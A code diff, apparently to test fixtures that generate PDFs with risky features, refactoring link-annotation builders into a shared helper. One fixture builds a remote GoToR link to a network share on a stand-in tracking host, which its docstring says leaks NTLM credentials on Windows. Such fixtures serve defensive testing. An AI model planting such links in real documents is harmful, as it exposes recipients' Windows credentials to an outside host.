@@ -166,22 +166,23 @@ def pdf_with_uri_open_action() -> bytes:
     return _pdf_bytes(pdf)
 
 
-def pdf_with_remote_goto_link() -> bytes:
-    """A link annotation that opens a file on a network share (leaks NTLM credentials on Windows)."""
-    pdf = pikepdf.new()
-    pdf.add_blank_page()
+def _pdf_with_link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> bytes:
+    """Put a link annotation running ``action`` on the first page of ``pdf``."""
     link = pdf.make_indirect(
         pikepdf.Dictionary(
-            Type=pikepdf.Name.Annot,
-            Subtype=pikepdf.Name.Link,
-            Rect=[0, 0, 100, 100],
-            A=pikepdf.Dictionary(
-                S=pikepdf.Name.GoToR, F=f"\\\\{TRACKING_HOST}\\share\\doc.pdf", D=[0]
-            ),
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action
         )
     )
     pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))
     return _pdf_bytes(pdf)
+
+
+def pdf_with_remote_goto_link() -> bytes:
+    """A link annotation that opens a file on a network share (leaks NTLM credentials on Windows)."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    share = f"\\\\{TRACKING_HOST}\\share\\doc.pdf"
+    return _pdf_with_link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=share, D=[0]))
 
 
 def pdf_with_page_open_uri_action() -> bytes:
@@ -208,16 +209,8 @@ def pdf_with_internal_link() -> bytes:
     pdf = pikepdf.new()
     pdf.add_blank_page()
     pdf.add_blank_page()
-    link = pdf.make_indirect(
-        pikepdf.Dictionary(
-            Type=pikepdf.Name.Annot,
-            Subtype=pikepdf.Name.Link,
-            Rect=[0, 0, 100, 100],
-            A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[1].obj, pikepdf.Name.Fit]),
-        )
-    )
-    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))
-    return _pdf_bytes(pdf)
+    target = [pdf.pages[1].obj, pikepdf.Name.Fit]
+    return _pdf_with_link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=target))
 
 
 def pdf_with_embedded_file() -> bytes:
